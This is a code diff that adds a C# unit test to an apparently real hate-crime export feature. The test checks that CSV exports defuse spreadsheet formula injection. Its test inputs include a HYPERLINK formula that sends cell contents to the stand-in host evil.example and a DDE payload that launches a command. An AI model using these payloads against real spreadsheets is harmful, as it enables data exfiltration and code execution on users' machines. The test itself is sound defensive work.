@@ -63,6 +63,25 @@ public sealed class HateCrimeExportTests : IDisposable
         Assert.Equal(2, report.DescriptionsWithheld);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
+    [InlineData("@SUM(1+1)")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("+1+1")]
+    public void A_public_summary_that_a_spreadsheet_would_run_is_written_as_text(string summary)
+    {
+        Record("physical_assault", summary: summary);
+        using var csv = new MemoryStream();
+
+        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Csv, csv).IsOk);
+
+        var text = System.Text.Encoding.UTF8.GetString(csv.ToArray());
+        var cells = text.Split('\n')[1];
+        Assert.Contains("'" + summary[0], cells, StringComparison.Ordinal);
+        Assert.DoesNotContain("," + summary[0], cells, StringComparison.Ordinal);
+        Assert.DoesNotContain("\"" + summary[0], cells, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void The_export_is_written_as_CSV_and_XLSX_and_needs_the_export_capability()
     {
